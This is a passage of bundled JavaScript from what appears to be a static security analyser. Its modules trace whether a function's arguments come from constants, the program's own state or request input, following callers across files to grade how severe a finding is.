    if (statement?.children().some((c) => c.text() === 'default'))
        return undefined;
    return name.text();
}
/**
 * The values the calls in `files` (and in `fn`'s own file) pass for parameter `name` of `fn`, called
 * `key`, or undefined when the calls cannot all be seen (see the file comment) or none is found.
 */
function exportedCallerArguments(fn, name, key, files, scope) {
    const position = parameterPosition(fn, name, scope);
    if (position < 0)
        return undefined;
    const own = fn.getRoot().root();
    // The head's copy of `fn`'s own file is the tree graded: its calls are read there.
    const roots = [
        { root: own, file: undefined },
        ...files.filter((f) => f.root.text() !== own.text()).map((f) => ({ root: f.root, file: f })),
    ];
    const passed = [];
    for (const { root, file } of roots) {
        const calls = callsNaming(root, key, fn);
        if (!calls)
            return undefined;
        // A recursive call passes on what the outer callers gave: only the graded tree holds `fn`.
        const outside = file ? calls : calls.filter((c) => !(0,flow_syntax/* isWithin */.UO)(c, fn));
        if (outside.length === 0)
            continue;
        const values = argumentsAt(outside, fn, position, false);
        if (!values)
            return undefined;
        passed.push(...values.map((value) => ({ value, file })));
    }
    return passed.length > 0 ? passed : undefined;
}
const exported_callers_NAME_KINDS = ['identifier', 'property_identifier', 'shorthand_property_identifier'];
// Declarations and types that name something else of the same name, or bind the name unchanged.
const KEEPS_NAME = new Set([
    'shorthand_property_identifier_pattern',
    'method_signature',
    'property_signature',
    'abstract_method_signature',
    'public_field_definition',
    'function_declaration',
    'generator_function_declaration',
    'class_declaration',
]);
/**
 * The calls in `root` that call something named `key`, or undefined when `key` is used there in a
 * way that may call it under another name. `fn`'s own name is its declaration, not a use.
 */
function callsNaming(root, key, fn) {
    const exactly = `^${key.replace(/\$/g, '\\$')}$`;
    const computed = root.find({
        rule: {
            kind: 'string_fragment',
            regex: exactly,
            inside: { kind: 'subscript_expression', stopBy: 'end' },
        },
    });
    if (computed)
        return undefined;
    const declared = fn.getRoot() === root.getRoot() ? declaredName(fn) : undefined;
    const calls = [];
    for (const use of root.findAll({ rule: { any: exported_callers_NAME_KINDS.map((kind) => ({ kind, regex: exactly })) } })) {
        if ((declared && (0,flow_syntax/* sameSpan */.D4)(use, declared)) || boundToOther(use))
            continue;
        const call = callOf(use);
        if (call === 'value')
            return undefined;
        if (call)
            calls.push(call);
    }
    return calls;
}
// Values a variable may hold that are not a function defined elsewhere: a call's result, a literal.
const NOT_A_FUNCTION = new Set([
    'call_expression',
    'await_expression',
    'new_expression',
    'string',
    'template_string',
    'number',
    'array',
    'object',
    'binary_expression',
]);
/**
 * Whether an identifier names a binding of its own scope, not the exported function: a parameter of
 * an enclosing function, or a variable of an enclosing block given a call's result or a literal
 * (WireGuard.ts's `const dump = await wg.dump(\u2026)`, then `merge(clients, dump)`).
 */
function boundToOther(use) {
    if ((0,flow_syntax/* kindOf */.I)(use) !== 'identifier')
        return false;
    const name = use.text();
    for (const scope of use.ancestors()) {
        const params = scope.field('parameters');
        const exactly = `^${name.replace(/\$/g, '\\$')}$`;
        // A default value that names it (`(run = dump) => \u2026`) is a use, not a binding.
        if (params?.findAll({ rule: { kind: 'identifier', regex: exactly } }).some((p) => !(0,flow_syntax/* sameSpan */.D4)(p, use)))
            return true;
        if (!['statement_block', 'program'].includes((0,flow_syntax/* kindOf */.I)(scope)))
            continue;
        for (const statement of scope.children())
            if (['lexical_declaration', 'variable_declaration'].includes((0,flow_syntax/* kindOf */.I)(statement)))
                for (const declarator of (0,flow_syntax/* named */.KT)(statement)) {
                    const value = declarator.field('value');
                    if (declarator.field('name')?.text() === name && value && NOT_A_FUNCTION.has((0,flow_syntax/* kindOf */.I)(value)))
                        return true;
                }
    }
    return false;
}
/** The node naming `fn` in its declaration (a function's name, a method's, a pair's key, a variable). */
function declaredName(fn) {
    const own = fn.field('name');
    if (own)
        return own;
    const parent = fn.parent();
    if (!parent)
        return null;
    if ((0,flow_syntax/* kindOf */.I)(parent) === 'pair')
        return parent.field('key');
    if ((0,flow_syntax/* kindOf */.I)(parent) === 'variable_declarator')
        return parent.field('name');
    return parent.field('left')?.field('property') ?? null;
}
/**
 * What one use of the name is: the call it is the callee of, null for a use that keeps the name or
 * names something else (a declaration, an import, a type's member), 'value' for a use that may hand
 * the function on under another name.
 */
function callOf(use) {
    const parent = use.parent();
    if (!parent)
        return 'value';
    const kind = (0,flow_syntax/* kindOf */.I)(parent);
    if (KEEPS_NAME.has((0,flow_syntax/* kindOf */.I)(use)) || KEEPS_NAME.has(kind))
        return null;
    if (kind === 'call_expression' && (0,flow_syntax/* sameSpan */.D4)(use, parent.field('function')))
        return parent;
    if (kind === 'member_expression' && (0,flow_syntax/* sameSpan */.D4)(use, parent.field('property')))
        return memberUse(parent);
    if (kind === 'import_specifier' || kind === 'export_specifier')
        return parent.field('alias') ? 'value' : null;
    if (kind === 'method_definition' || kind === 'variable_declarator')
        return (0,flow_syntax/* sameSpan */.D4)(use, parent.field('name')) ? null : 'value';
    if (kind === 'pair')
        return pairUse(use, parent);
    if (kind === 'pair_pattern')
        return parent.field('value')?.text() === use.text() ? null : 'value';
    if ((0,flow_syntax/* kindOf */.I)(use) === 'shorthand_property_identifier')
        return exportsObject(parent) ? null : 'value';
    // `X.prototype.name = name`: the property keeps the name, and its calls name it.
    if (kind === 'assignment_expression' && (0,flow_syntax/* sameSpan */.D4)(use, parent.field('right')))
        return parent.field('left')?.field('property')?.text() === use.text() ? null : 'value';
    return 'value';
}
/** `obj.name`: the call it is the callee of, null when assigned to, 'value' when read as a value. */
function memberUse(member) {
    const outer = member.parent();
    if (!outer)
        return 'value';
    if ((0,flow_syntax/* kindOf */.I)(outer) === 'call_expression' && (0,flow_syntax/* sameSpan */.D4)(member, outer.field('function')))
        return outer;
    // `exports.name = \u2026`, `X.prototype.name = \u2026`: a definition of a property of that name.
    if ((0,flow_syntax/* kindOf */.I)(outer) === 'assignment_expression' && (0,flow_syntax/* sameSpan */.D4)(member, outer.field('left')))
        return null;
    return 'value';
}
/** `{ name: value }`: a key names the object's own property; the name as a value keeps it only unrenamed. */
function pairUse(use, pair) {
    if ((0,flow_syntax/* sameSpan */.D4)(use, pair.field('key')))
        return null;
    const key = pair.field('key')?.text();
    return key === use.text() && exportsObject(pair.parent()) ? null : 'value';
}
/**
 * Whether an object literal is what the module exports (`module.exports = {\u2026}`, `export default
 * {\u2026}`, `export const api = {\u2026}`): its properties are called by their names. Elsewhere an object of
 * functions is often a table dispatched by a computed key (`handlers[action](\u2026)`).
 */
function exportsObject(object) {
    if (!object || (0,flow_syntax/* kindOf */.I)(object) !== 'object')
        return false;
    const parent = object.parent();
    if (!parent)
        return false;
    if ((0,flow_syntax/* kindOf */.I)(parent) === 'assignment_expression')
        return /^(module\.)?exports$/.test(parent.field('left')?.text() ?? '');
    if ((0,flow_syntax/* kindOf */.I)(parent) === 'export_statement')
        return true;
    return ((0,flow_syntax/* kindOf */.I)(parent) === 'variable_declarator' &&
        (0,flow_syntax/* kindOf */.I)(parent.parent()?.parent() ?? parent) === 'export_statement');
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/settled-callers.js
/**
 * Whether the calls in other files settle an exported JavaScript or TypeScript function's argument:
 * every call was found (exported-callers.ts) and none passes input. Then the argument is what those
 * files hand over \u2014 a constant, the app's own state, a database row or the config \u2014 and the finding
 * is graded at most medium with the callers named (issue 45 point 5). Conservative on doubt: a call
 * passing a request's value, argv or the environment, an argument of a function whose own callers
 * are not all known, or a value the rules cannot trace inside code that handles requests (a route, a
 * Nitro `defineEventHandler`, a tRPC procedure, where the value may well be the request's) keeps the
 * rule's grade. A name whose files were not read yet is asked for (`wanted`): the lens reads them and
 * grades again.
 */




// Callers' files one grade may pass through: an argument passed on from callers of callers
// (firewall.ts's `initChain` from `rebuildRules`, from WireGuard.ts). Each hop grades anew, so the
// hops, not the grader's depth, bound it; a cycle of functions passing each other's arguments ends here.
const CALLER_HOPS = 3;
// Values one function's callers may pass that are graded; more keeps the grade (a shared helper).
const CALLER_VALUES = 40;
// What each kind of settled value is called in the finding's body, in the order it is listed.
const KINDS = [
    'constants',
    "the program's own paths",
    "the program's own state",
    'values the rules cannot trace to a request (a database row, the config)',
    'arguments their own callers fill the same way',
];
/**
 * What the callers of exported `fn` pass for its parameter `name`, said for the finding's body
 * ("its callers (WireGuard.ts) pass only \u2026"), or undefined when they keep the argument input.
 */
function settledByCallers(g, fn, name) {
    const callers = g.facts.callers;
    if (!callers || !graded/* JS_FAMILY */.Xg.includes(g.language) || (g.facts.hop ?? 0) >= CALLER_HOPS)
        return undefined;
    const key = callName(fn);
    if (key === undefined)
        return undefined;
    const files = callers.known.get(key);
    if (files === undefined) {
        callers.wanted.add(key);
        return undefined;
    }
    if (files === null)
        return undefined;
    const passed = exportedCallerArguments(fn, name, key, files, g.scope);
    if (!passed || passed.length > CALLER_VALUES)
        return undefined;
    const places = new Set();
    const kinds = new Set();
    for (const { value, file } of passed) {
        const graded = g.gradeCaller(value, file?.language ?? g.language);
        const text = (file?.root ?? value.getRoot().root()).text();
        const kind = settledKind(graded, (0,entry_points/* handlesRequests */.Ms)(text, file?.language ?? g.language, file?.path));
        if (kind === undefined)
            return undefined;
        kinds.add(kind);
        places.add(file ? external_node_path_.posix.basename(file.path) : 'this file');
    }
    const what = [...kinds].sort().map((k) => KINDS[k]);
    return `its callers (${[...places].join(', ')}) pass only ${what.join(', ')}`;
}
/** Which of KINDS a caller's value is, or undefined when it keeps the argument input. */
function settledKind(graded, served) {
    switch (graded.origin) {
        case 'constant':
            return 0;
        case 'local':
            return 1;
        case 'unknown':
            if (graded.closed)
                return 2;
            return served ? undefined : 3;
        case 'input':
            return graded.callers !== undefined && !served ? 4 : undefined;
    }
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/grade-names.js










// Statements of a function's body that always run what they hold.
const UNCONDITIONAL = new Set(['expression_statement', 'lexical_declaration', 'variable_declaration']);
/**
 * The origin of the variable `name` as seen at `at`: its definitions before `at` in the enclosing
 * functions (innermost first), else a parameter of one of them (input), else a module-level
 * definition, else unknown. A name a guard checked to be one of a list's values holds what the list
 * holds, or what its own definition holds, whichever is milder (both are true of it): a constant
 * checked against a request's list is still the constant.
 */
function resolveName(g, name, at, depth) {
    const member = {};
    const own = resolveOwn(g, name, at, depth, member);
    return member.grade && graded/* RANK */.Vz[member.grade.origin] < graded/* RANK */.Vz[own.origin] ? member.grade : own;
}
/** `resolveName` but for the membership guard, whose list's grade it leaves in `member`. */
function resolveOwn(g, name, at, depth, member) {
    if (g.syntax.local.test(name))
        return { origin: 'local', because: `\`${name}\`, a local path` };
    const functions = at.ancestors().filter((a) => g.syntax.functions.includes((0,flow_syntax/* kindOf */.I)(a)));
    for (const fn of functions) {
        const validated = passedValidator(fn, name, at, g.language);
        if (typeof validated === 'object' && validated !== null)
            member.grade ??= listGrade(g, name, validated.member, depth);
        else if (validated)
            return validatedGrade(name, validated);
        const before = g.scope
            .definitions(fn, name)
            .filter((d) => d.at.range().end.index <= at.range().start.index && !reencodes(d.value, name));
        const parameter = g.scope.parameters(fn).includes(name);
        if (before.length > 0) {
            const grades = before.map((d) => g.grade(d.value, depth + 1));
            // `if (typeof p !== 'string') p = path.join(tmpdir(), \u2026)`: a parameter reassigned only in a
            // branch still holds what the caller passed on the other path (marktext's picgo upload).
            if (parameter && onlyInBranches(g, fn, before, at))
                grades.push(parameterGrade(g, fn, name, depth, at));
            return (0,graded/* strongest */.yX)(grades, g.language);
        }
        if (!parameter)
            continue;
        return parameterGrade(g, fn, name, depth, at);
    }
    const root = functions.at(-1) ?? at;
    const top = root.ancestors().at(-1) ?? root;
    // A script's top level is its body: a guard there validates what follows it.
    const validated = functions.length === 0 ? passedValidator(top, name, at, g.language) : null;
    if (typeof validated === 'object' && validated !== null)
        member.grade ??= listGrade(g, name, validated.member, depth);
    else if (validated)
        return validatedGrade(name, validated);
    const module = g.scope
        .definitions(top, name)
        .filter((d) => !d.at.ancestors().some((a) => g.syntax.functions.includes((0,flow_syntax/* kindOf */.I)(a))));
    if (module.length > 0)
        return g.gradeAll(module.map((d) => d.value), depth + 1);
    // An import or a global may hold anything, a request's value included: not closed.
    return { origin: 'unknown', because: `\`${name}\`, defined where the rules cannot see` };
}
/** The origin of parameter `name` of `fn`: what its callers pass, as far as the file shows them. */
function parameterGrade(g, fn, name, depth, at) {
    // The receiver (`self`, Go's `s *Store`) is the object's own state, not a value a caller passes.
    if (g.scope.isReceiver(fn, name))
        return { origin: 'unknown', because: `\`${name}\`, the object's own state` };
    const scalar = g.scope.scalarType(fn, name);
    if (scalar)
        return { origin: 'constant', because: `\`${name}\`, a \`${scalar}\`` };
    const converter = g.language === 'python' ? closedRouteConverter(fn, name) : undefined;
    if (converter)
        return {
            origin: 'constant',
            because: `\`${name}\`, which the route's \`${converter}\` converter limits`,
        };
    if (g.facts.handlersOnly && !g.scope.isHandler(fn))
        return {
            origin: 'unknown',
            because: `\`${name}\`, an argument of the helper ${g.scope.nameOf(fn)}`,
        };
    const passed = passedByCallers(g, fn, name, depth);
    if (passed)
        return passed;
    const exported = (0,entry_points/* isExportedEntry */.II)(fn, g.language);
    const callers = exported ? settledByCallers(g, fn, name) : undefined;
    return {
        origin: 'input',
        because: `\`${name}\`, an argument of ${g.scope.nameOf(fn)}`,
        via: 'argument',
        exported,
        // The graded value itself, not a hole of a template built around it.
        whole: (0,flow_syntax/* sameSpan */.D4)(at, g.graded ?? null),
        ...(callers !== undefined && { callers }),
    };
}
/**
 * Whether every definition of a name in `fn` sits in a nested block (an `if`, a loop, a `try`), so
 * a path through `fn` to `at` may skip them all: JavaScript and TypeScript. Not when one of them is
 * a plain statement of a block that also holds `at`: every path to `at` runs it, so the caller's
 * value is gone (uptime-kuma's `executablePath = "/usr/bin/chromium"` just before the call, inside
 * the branch that needs it).
 */
function onlyInBranches(g, fn, definitions, at) {
    if (!graded/* JS_FAMILY */.Xg.includes(g.language))
        return false;
    const body = fn.field('body');
    if (!body || (0,flow_syntax/* kindOf */.I)(body) !== 'statement_block')
        return false;
    if (definitions.some((d) => runsBefore(d.at, at)))
        return false;
    const start = body.range().start.index;
    return definitions.every((d) => {
        // The statement of the body that holds the definition: a plain one always runs, an `if`, a
        // loop or a `try` may not.
        const top = d.at.ancestors().find((a) => a.parent()?.range().start.index === start);
        return top !== undefined && !UNCONDITIONAL.has((0,flow_syntax/* kindOf */.I)(top));
    });
}
/** Whether `definition` is a plain statement of the innermost block holding it, and that block holds `at`. */
function runsBefore(definition, at) {
    const block = definition.ancestors().find((a) => (0,flow_syntax/* kindOf */.I)(a) === 'statement_block');
    if (!block || !(0,flow_syntax/* isWithin */.UO)(at, block))
        return false;
    const statement = definition.ancestors().find((a) => {
        const parent = a.parent();
        return parent !== null && (0,flow_syntax/* sameSpan */.D4)(parent, block);
    });
    return statement !== undefined && UNCONDITIONAL.has((0,flow_syntax/* kindOf */.I)(statement));
}
/**
 * What the calls pass for parameter `name` of `fn`, when they can all be seen: a JavaScript
 * module's own helper (helper-callers.ts) or a class's private method (private-method-callers.ts), a Python module nothing imports (module-callers.ts), a
 * Go package's unexported function (package-callers.ts). Undefined otherwise: the argument stays input.
 */
function passedByCallers(g, fn, name, depth) {
    const args = callerArguments(g, fn, name);
    return args && g.gradeAll(args, depth + 1);
}
function callerArguments(g, fn, name) {
    if (g.language === 'go')
        return g.facts.goPackage && (0,package_callers/* packageCallerArguments */.y)(fn, name, packageBeside(g, fn, g.facts.goPackage));
    if (g.language === 'python')
        return g.facts.closedModule ? moduleCallerArguments(fn, name) : undefined;
    if (!g.syntax.moduleHelpers)
        return undefined;
    return (0,flow_syntax/* kindOf */.I)(fn) === 'method_definition'
        ? privateMethodCallerArguments(fn, name, g.scope)
        : helperCallerArguments(fn, name, g.scope);
}
/**
 * The package's files other than `fn`'s: a helper's callers may be in the graded file or in any
 * other (a second hop starts in a file of `goPackage`). Files are told apart by their text: two
 * files of one package cannot both declare the same names.
 */
function packageBeside(g, fn, others) {
    const own = fn.getRoot().root().text();
    const files = g.graded ? [g.graded.getRoot().root(), ...others] : others;
    return files.filter((root) => root.text() !== own);
}
/**
 * Whether `value` gives `name` its own text back, re-encoded or trimmed (`expanded =
 * expanded.encode('utf-8')` under a Python 2 branch, thefuck): the name still holds what it held.
 */
function reencodes(value, name) {
    const match = /^([\w$]+)\.(encode|decode|strip|lstrip|rstrip|trim|trimStart|trimEnd)\(\s*(['"][\w-]*['"])?\s*\)$/.exec(value.text());
    return match?.[1] === name;
}
/** A name a guard checked: a constant, with what the guard showed it to be. */
function validatedGrade(name, validated) {
    const what = { version: 'a version', word: 'a name of letters, digits and `_`', number: 'a number' }[validated];
    return { origin: 'constant', because: `\`${name}\`, ${what} that passed a validator` };
}
/** What a name checked to be one of `list`'s values holds (`if (!refs.includes(ref)) process.exit(1)`). */
function listGrade(g, name, list, depth) {
    const grade = g.grade(list, depth + 1);
    return { ...grade, because: `\`${name}\`, checked to be one of ${(0,graded/* short */.h0)(list.text())}: ${grade.because}` };
}

// EXTERNAL MODULE: ./.tmp/bundle-src/static/flow/syntax-nodes.js
var syntax_nodes = __webpack_require__(72296);
;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/self-attribute.js

// Where an attribute is written: an assignment's or a loop's target, or one element of a tuple target.
const TARGET_HOLDERS = new Set(['assignment', 'augmented_assignment', 'for_statement']);
const TUPLE_TARGETS = new Set(['pattern_list', 'tuple_pattern', 'list_pattern', 'tuple', 'list']);
/** The one value assigned to `self.<name>` before `read` in its own method, if that is the file's only write. */
function selfAttributeValue(read, object, name) {
    if ((0,syntax_nodes/* kindOf */.I)(object) !== 'identifier' || object.text() !== 'self' || !/^\w+$/.test(name))
        return undefined;
    const method = read.ancestors().find((a) => (0,syntax_nodes/* kindOf */.I)(a) === 'function_definition');
    if (!method)
        return undefined;
    const root = read.getRoot().root();
    // `setattr(self, name, \u2026)` may write any attribute, by a name the rules cannot read.
    if (/\bsetattr\(\s*self\b/.test(root.text()))
        return undefined;
    const writes = root
        .findAll({ rule: { kind: 'attribute', regex: `^self\\.${name}$` } })
        .filter((a) => a.text() === `self.${name}` && isWriteTarget(a));
    const [only] = writes;
    const set = only?.parent();
    if (writes.length !== 1 || !set || (0,syntax_nodes/* kindOf */.I)(set) !== 'assignment' || !(0,syntax_nodes/* isWithin */.UO)(set, method))
        return undefined;
    // Set before the read, and not from inside a nested function that may run at any time.
    const own = set.ancestors().find((a) => (0,syntax_nodes/* kindOf */.I)(a) === 'function_definition');
    if (own?.range().start.index !== method.range().start.index)
        return undefined;
    if (set.range().end.index > read.range().start.index)
        return undefined;
    return set.field('right') ?? undefined;
}
/** Whether an attribute node is written: the `left` of an assignment or a loop, or inside a tuple there. */
function isWriteTarget(attribute) {
    let at = attribute;
    let holder = at.parent();
    while (holder && TUPLE_TARGETS.has((0,syntax_nodes/* kindOf */.I)(holder))) {
        at = holder;
        holder = holder.parent();
    }
    if (!holder || !TARGET_HOLDERS.has((0,syntax_nodes/* kindOf */.I)(holder)))
        return false;
    const left = holder.field('left');
    return (left !== null &&
        left.range().start.index === at.range().start.index &&
        left.range().end.index === at.range().end.index);
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/grade-flow.js











// JavaScript built-ins whose result the program makes itself: a date, a random id.
const OWN_VALUES = /^(Date|(crypto\.)?randomUUID)$/;
const MAX_DEPTH = 8;
// The parts of a Go composite literal (`{"a", "b"}`, `key: value`).
const GO_ELEMENTS = new Set(['literal_value', 'literal_element']);
/**
 * Grades `value`, a node of a file parsed with `language`'s grammar. With `handlersOnly`, a
 * function's arguments are input only in a handler (see `isHandler`): a plain helper's arguments
 * hold whatever its callers pass, which one file does not show. With `closedModule`, the file is one
 * no other module imports (a Python migration, module-callers.ts): its top-level functions' arguments
 * hold what its own calls pass. `goPackage` holds the parsed other files of a Go file's package, all
 * of them (package-callers.ts): an unexported function's arguments hold what the package's calls pass.
 * `callers` holds the head's files naming exported JS functions (exported-callers.ts).
 */
function gradeFlow(value, language, facts = {}) {
    const graded = new Grader(flow_syntax/* FLOW_SYNTAX */.du[language], language, facts, value).grade(value, 0);
    if (!graded.closed)
        return graded;
    // A value read back from the network (a fetch's body, a socket's message) is not the program's own.
    const fn = value.ancestors().find((a) => flow_syntax/* FLOW_SYNTAX */.du[language].functions.includes((0,flow_syntax/* kindOf */.I)(a)));
    return (0,cli_program/* readsNetwork */.ot)(fn?.text() ?? value.getRoot().root().text(), language)
        ? { ...graded, closed: false }
        : graded;
}
class Grader {
    syntax;
    language;
    facts;
    graded;
    scope;
    constructor(syntax, language, facts, 
    /** The graded value: a Go helper in another file of the package may be called in its file. */
    graded) {
        this.syntax = syntax;
        this.language = language;
        this.facts = facts;
        this.graded = graded;
        this.scope = new FlowScope(syntax);
    }
    /**
     * A caller's argument (settled-callers.ts): graded with its file's grammar, one hop further. Its
     * depth starts again: the hops have their own bound, and a value cut off by the depth would pass
     * for one the rules cannot trace.
     */
    gradeCaller(node, language) {
        const facts = { ...this.facts, closedModule: false, hop: (this.facts.hop ?? 0) + 1 };
        return new Grader(flow_syntax/* FLOW_SYNTAX */.du[language], language, facts, node).grade(node, 0);
    }
    grade(node, depth) {
        const s = this.syntax;
        const kind = (0,flow_syntax/* kindOf */.I)(node);
        const text = node.text();
        if (depth > MAX_DEPTH)
            return { origin: 'unknown', because: (0,graded/* short */.h0)(text) };
        // Before the sources, which match a text's start: `req.query.n * 2` is a number, not the request's text.
        const scalar = s.binaries.includes(kind) ? scalarOperation(node, s) : undefined;
        if (scalar)
            return scalar;
        if (s.tainted.test(text) || s.handlerReads?.(node))
            return { origin: 'input', because: `${(0,graded/* short */.h0)(text)}, program input`, via: 'source', source: text };
        if (s.local.test(text))
            return { origin: 'local', because: `${(0,graded/* short */.h0)(text)}, a local path` };
        if (s.schemaNames?.test(text))
            return graded/* CONSTANT */.TJ;
        if (s.literals.includes(kind))
            return this.literal(node, depth);
        if (kind === 'token_tree')
            return this.tokenTree(node, depth);
        // Go's `[]T{\u2026}`: the elements flow, the type does not; a struct's field key names no value.
        // A Go composite literal's nesting is the tree's, which ends: it spends no depth (the depth bounds
        // the hops between definitions), so a deep literal is not cut off as untraced.
        if (kind === 'composite_literal') {
            const body = node.field('body');
            return body ? this.grade(body, depth) : graded/* CONSTANT */.TJ;
        }
        if (kind === 'keyed_element')
            return this.keyedElement(node, depth);
        if (s.containers.includes(kind))
            return (0,graded/* strongest */.yX)((0,flow_syntax/* named */.KT)(node).map((c) => this.grade(c, GO_ELEMENTS.has(kind) ? depth : depth + 1)), this.language);
        const branches = s.conditionals[kind];
        if (branches) {
            const parts = (0,flow_syntax/* named */.KT)(node);
            const picked = branches.map((f) => (/^\d+$/.test(f) ? parts[Number(f)] : node.field(f)));
            return this.gradeAll(picked, depth + 1);
        }
        if (s.binaries.includes(kind)) {
            const [left, right] = [node.field('left'), node.field('right')];
            return this.gradeAll([left, right], depth + 1);
        }
        if (kind === 'identifier')
            return resolveName(this, node.text(), node, depth);
        const call = s.call(node);
        if (call && s.fileReads?.test(call.callee))
            return this.fileContent(call.args[0], depth);
        if (call)
            return this.gradeCall(node, call, depth);
        const member = s.member(node);
        if (member)
            return this.gradeMember(node, member, depth);
        // `new Date()`: JavaScript's `new` names its callee `constructor`, which the call syntax leaves out.
        const made = kind === 'new_expression' ? node.field('constructor') : null;
        const parts = made ? (0,flow_syntax/* named */.KT)(node.field('arguments')) : (0,flow_syntax/* named */.KT)(node);
        return {
            origin: 'unknown',
            because: `${(0,graded/* short */.h0)(text)}, of an origin the rules cannot follow`,
            closed: (!made || OWN_VALUES.test(made.text())) && this.ownState(node, parts, depth),
        };
    }
    /** The strongest grade of `nodes` (absent ones left out), each graded at `depth`. */
    gradeAll(nodes, depth) {
        return (0,graded/* strongest */.yX)(nodes.flatMap((n) => (n ? [this.grade(n, depth)] : [])), this.language);
    }
    /** A call's value: what passes through it, a safe result, or untraced (closed on the program's own state). */
    gradeCall(node, call, depth) {
        const s = this.syntax;
        if (s.safeFunctions.test(call.callee) || (call.method && s.safeMethods.test(call.method)))
            return graded/* CONSTANT */.TJ;
        if (s.passFunctions.test(call.callee))
            return this.parts(node, s.printf?.test(call.callee) ? textualArguments(call.args) : call.args, depth);
        if (call.method && call.receiver && s.passMethods.test(call.method))
            return this.parts(node, [call.receiver, ...call.args], depth);
        // A function of this file returns what its returns hold (own-returns.ts) when that is the
        // program's own (wg-easy's `'awg'`/`'wg'` pick). A return of input is left untraced, as any call:
        // taking it as the call's input too made a page's own template (`document.getElementById(\u2026)`)
        // input on the held-out half (writefreely), and gained nothing on the tuning half (s19).
        const returns = graded/* JS_FAMILY */.Xg.includes(this.language) ? ownReturns(node.field('function'), s) : undefined;
        const returned = returns && this.gradeAll(returns, depth + 1);
        if (returned && (0,graded/* isOwn */.NP)(returned))
            return returned;
        // A method of the program's own state on its own values (`this.variable.getValue('KEY')`) is
        // closed; a bare function defined elsewhere (`currentRef()`) may return anything.
        const parts = [call.receiver, ...call.args].filter((p) => p !== undefined);
        return {
            origin: 'unknown',
            because: `${(0,graded/* short */.h0)(node.text())}, a call the rules cannot follow`,
            closed: (call.method !== undefined || OWN_VALUES.test(call.callee)) && this.ownState(node, parts, depth),
        };
    }
    /** A member's value (`obj.name`, `obj[i]`): its object's grade, a table's constant, or untraced. */
    gradeMember(node, member, depth) {
        const s = this.syntax;
        const text = node.text();
        if (s.safeMethods.test(member.name))
            return graded/* CONSTANT */.TJ;
        if (this.sinkOwnAttribute(member.object, member.name))
            return { origin: 'unknown', because: `${(0,graded/* short */.h0)(text)}, the state of the object that runs it` };
        if (this.readsLiteralTable(member.object))
            return { origin: 'constant', because: `${(0,graded/* short */.h0)(text)}, a lookup in a table of literals` };
        const set = this.language === 'python' ? selfAttributeValue(node, member.object, member.name) : undefined;
        if (set)
            return this.grade(set, depth + 1);
        const object = this.grade(member.object, depth + 1);
        if (object.origin === 'input')
            return object;
        // A field or an element of a value built only of constants (`tc.table` of a loop over a
        // literal list of tables) is one of those constants.
        if (object.origin === 'constant' && s.constantMembers)
            return object;
        if (object.origin === 'local' && s.passMethods.test(member.name))
            return object;
        return {
            origin: 'unknown',
            because: `${(0,graded/* short */.h0)(text)}, of an origin the rules cannot follow`,
            closed: this.ownState(node, [member.object], depth) && this.ownField(member.object, member.name, depth),
        };
    }
    /**
     * Whether `this.name` holds only the program's own state: every assignment to it in the file is
     * closed (a constructor's `this.branch = req.query.branch` is not). With none in the file it is
     * set where the object is made (Gladys's `this.config`), as a method's receiver's fields are.
     */
    ownField(object, name, depth) {
        if ((0,flow_syntax/* kindOf */.I)(object) !== 'this')
            return true;
        const field = `^this\\.${name.replace(/\$/g, '\\$')}$`;
        const assigned = object
            .getRoot()
            .root()
            .findAll({
            rule: {
                any: [{ kind: 'assignment_expression' }, { kind: 'augmented_assignment_expression' }],
                has: { field: 'left', regex: field },
            },
        });
        return assigned.every((a) => {
            const right = a.field('right');
            return right !== null && (0,graded/* isOwn */.NP)(this.grade(right, depth + 1));
        });
    }
    /**
     * Whether an untraced `node` is built of the program's own state only: each of its `parts` (a
     * call's receiver and arguments, a member's object, an expression's operands) is a constant, a
     * local path or itself closed, and its text names no request (`this.request.body` of a Koa 1
     * handler is a request however it is reached). JavaScript and TypeScript only.
     */
    ownState(node, parts, depth) {
        if (!graded/* JS_FAMILY */.Xg.includes(this.language))
            return false;
        if (new RegExp(this.syntax.tainted.source.replace(/^\^/, '\\b')).test(node.text()))
            return false;
        return parts.every((p) => (0,graded/* isOwn */.NP)(this.grade(p, depth + 1)));
    }
    /**
     * Whether `object.name` is an attribute of the very object whose method the graded value is
     * passed to (Python): `db.execute(f"\u2026 amount {db.big_int} \u2026")` splices the connection's own
     * dialect (lnbits' `db.big_int`, `db.timestamp_now`), which is its state like `self.x` is an
     * object's, not a value a caller passes. Not when this file assigns that attribute (a PR that sets
     * `db.big_int = request.args[\u2026]` beside it): then the assignment is what flows.
     */
    sinkOwnAttribute(object, name) {
        if (this.language !== 'python' || (0,flow_syntax/* kindOf */.I)(object) !== 'identifier' || !this.graded)
            return false;
        const call = this.graded.parent()?.parent();
        const callee = call && (0,flow_syntax/* kindOf */.I)(call) === 'call' ? call.field('function') : null;
        if (!callee || (0,flow_syntax/* kindOf */.I)(callee) !== 'attribute' || callee.field('object')?.text() !== object.text())
            return false;
        const attribute = `^${object.text()}\\.${name}$`;
        const assigned = {
            rule: {
                any: [{ kind: 'assignment' }, { kind: 'augmented_assignment' }],
                has: { field: 'left', regex: attribute },
            },
        };
        const root = object.getRoot().root();
        return (root.find(assigned) === null && !new RegExp(`\\bsetattr\\(\\s*${object.text()}\\b`).test(root.text()));
    }
    /**
     * Whether `object` names a table of literals declared in the innermost function (or the module)
     * that declares it, and only read from there (literal-table.ts): JavaScript and TypeScript.
     */
    readsLiteralTable(object) {
        if (!['javascript', 'typescript', 'tsx'].includes(this.language) || (0,flow_syntax/* kindOf */.I)(object) !== 'identifier')
            return false;
        const name = object.text();
        const exactly = `^${name.replace(/\$/g, '\\$')}$`;
        const declares = { rule: { kind: 'variable_declarator', has: { field: 'name', regex: exactly } } };
        const scopes = object.ancestors().filter((a) => this.syntax.functions.includes((0,flow_syntax/* kindOf */.I)(a)));
        // Each answer is a search of a whole scope, asked again for every read of the name: once per tree.
        const scope = [...scopes, object.getRoot().root()].find((fn) => onTree('declares', fn, name, () => fn.find(declares) !== null));
        return scope !== undefined && onTree('literal table', scope, name, () => isLiteralTableIn(object, scope));
    }
    /**
     * The content of a file read from `path`. A file the app ships is its own data, not input: a
     * constant or module-relative path, or one under a constant directory with a fixed extension
     * (input then only picks which of the app's files). Any other path keeps its own origin: the
     * path of an upload, or one given whole as input, names a file the attacker may have written.
     */
    fileContent(path, depth) {
        if (!path)
